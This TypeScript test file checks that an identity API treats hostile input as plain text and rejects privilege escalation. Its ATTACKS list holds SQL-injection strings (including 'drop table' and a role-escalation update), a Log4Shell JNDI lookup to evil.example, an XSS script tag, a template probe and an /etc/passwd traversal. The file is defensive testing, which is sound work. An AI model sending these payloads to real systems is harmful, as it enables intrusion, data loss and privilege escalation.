import { afterEach, beforeEach, expect, it } from 'vitest';
import { createIdentityHarness, GOOD_PASSWORD, setUp, type IdentityHarness } from './testing.ts';

/** What has opened other people's houses: text that becomes SQL, markup, paths, headers or prototypes where it is not kept text. */
const ATTACKS = [
  "'; drop table users; --",
  "' or '1'='1",
  '" or ""="',
  "admin'/*",
  "1; update users set global_role = 'GlobalAdmin'",
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}',
  '<script>alert(1)</script>',
  '../../../../etc/passwd',
  '%27%20or%201=1',
  '__proto__',
];

let harness: IdentityHarness;
let cookie: string;
let apiKey: string;
beforeEach(async () => {
  harness = await createIdentityHarness({ 'rateLimiting.api': '100000 per minute' });
  ({ cookie, apiKey } = await setUp(harness));
});
afterEach(() => harness.close());

/** The house stands: the same users and companies, and the owner gets in. */
async function expectHouseStands(companies: number): Promise<void> {
  const database = harness.platform.database.withTables<{ users: { email: string; global_role: string | null } }>();
  expect(await database.selectFrom('users').select(['email', 'global_role']).execute()).toEqual([
    { email: 'root@example.org', global_role: 'GlobalAdmin' },
  ]);
  expect((await harness.get('/api/companies', { cookie })).json<{ companies: unknown[] }>().companies).toHaveLength(
    companies,
  );
  expect(
    (await harness.post('/api/session', { email: 'root@example.org', password: GOOD_PASSWORD }, {}, '198.51.100.99'))
      .statusCode,
  ).toBe(200);
}

it('keeps hostile text text in what anybody may send', async () => {
  for (const [index, text] of ATTACKS.entries()) {
    const address = `198.51.100.${index}`;
    const answers = await Promise.all([
      harness.post('/api/session', { email: text, password: text }, { 'user-agent': text }, address),
      harness.post('/api/session', { email: 'root@example.org', password: text }, {}, address),
      harness.post('/api/setup', {
        secret: text,
        email: text,
        name: text,
        password: text,
        company: text,
        timeZone: text,
      }),
      harness.get('/api/companies', { 'x-api-key': text }),
      harness.get('/api/companies', { authorization: `Bearer ${text}` }),
      harness.get('/api/session', { cookie: `gatehouse=${encodeURIComponent(text)}` }),
    ]);
    expect(
      answers.map((answer) => answer.statusCode),
      text,
    ).toEqual([401, 401, 409, 401, 401, 401]);
    for (const answer of answers) expect(answer.body).not.toMatch(/sqlite|syntax|SELECT|stack|node_modules/i);
  }
  await expectHouseStands(1);
});

it('keeps hostile text text in what an administrator may send, and shows it as it was', async () => {
  for (const [index, text] of ATTACKS.entries()) {
    const company = await harness.post('/api/companies', { name: text, timeZone: 'UTC' }, { cookie });
    expect([company.statusCode, company.json()], text).toMatchObject([201, { name: text, number: index + 2 }]);
    const key = await harness.post('/api/keys', { name: text, scopes: ['read'] }, { cookie, 'x-company': '1' });
    expect([key.statusCode, key.json()], text).toMatchObject([201, { key: { name: text } }]);
    expect(
      (await harness.post('/api/companies', { name: `zone ${index}`, timeZone: text }, { cookie })).statusCode,
      text,
    ).toBe(400);
    expect((await harness.delete(`/api/keys/${encodeURIComponent(text)}`, { cookie })).statusCode, text).toBe(404);
    expect((await harness.get('/api/keys', { cookie, 'x-company': text })).statusCode, text).toBe(404);
    expect((await harness.get(`/api/audit?cursor=${encodeURIComponent(text)}`, { cookie })).statusCode, text).toBe(400);
  }
  const { keys } = (await harness.get('/api/keys', { cookie, 'x-company': '1' })).json<{ keys: { name: string }[] }>();
  expect(keys.map((key) => key.name)).toEqual(['First key', ...ATTACKS]);
  await expectHouseStands(1 + ATTACKS.length);
});

it('takes no rights from a body', async () => {
  for (const extra of [
    { globalRole: 'GlobalAdmin' },
    { role: 'Admin' },
    { permissions: ['keys.manage'] },
    { number: 1 },
    { id: '1' },
  ])
    expect(
      (await harness.post('/api/companies', { name: 'New', timeZone: 'UTC', ...extra }, { cookie })).json(),
    ).toMatchObject({
      error: { code: 'VALIDATION_FAILED' },
    });
  await expectHouseStands(1);
});

it('opens no route of identity or audit to nobody, and none but reading ones to a key for reading', async () => {
  const routes: ['GET' | 'POST' | 'DELETE', string, number][] = [
    ['GET', '/api/session', 401],
    ['DELETE', '/api/session', 401],
    ['GET', '/api/companies', 200],
    ['POST', '/api/companies', 403],
    ['GET', '/api/keys', 403],
    ['POST', '/api/keys', 403],
    ['DELETE', '/api/keys/x', 403],
    ['GET', '/api/audit', 403],
  ];
  for (const [method, url, withReadingKey] of routes) {
    const send = (headers: Record<string, string>) => harness.http.inject({ method, url, headers });
    expect((await send({})).statusCode, `${method} ${url}`).toBe(401);
    expect((await send({ 'x-api-key': apiKey })).statusCode, `${method} ${url}`).toBe(withReadingKey);
  }
});
